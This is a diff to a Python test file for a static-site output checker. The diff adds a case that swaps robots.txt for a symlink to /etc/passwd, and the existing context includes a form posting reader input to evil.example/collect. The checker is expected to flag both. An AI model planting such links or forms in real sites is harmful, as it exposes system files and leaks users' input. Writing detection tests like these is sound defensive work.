@@ -127,6 +127,9 @@ def _tampered(site: SiteDir, change: str) -> list[str]:
                 '<form action="https://evil.example/collect"><input name=q></form></main>',
             )
         )
+    elif change == "link to a system file":
+        (site.out / "robots.txt").unlink()
+        (site.out / "robots.txt").symlink_to("/etc/passwd")
     elif change == "draft in feed":
         feed = site.out / "feed.xml"
         feed.write_text(
@@ -154,6 +157,7 @@ def _tampered(site: SiteDir, change: str) -> list[str]:
         ("iframe", "index.html: this page has a <iframe>"),
         ("javascript link", "index.html: this page has a `href` that runs code"),
         ("foreign form", "sends what readers type to https://evil.example/collect"),
+        ("link to a system file", "robots.txt: this is a link to /etc/passwd"),
         ("draft in feed", "2026-11-21-secret.md: this entry is a draft but its words"),
         ("farewell in a text file", "goodbye.md: this entry is a held farewell but its words"),
     ],
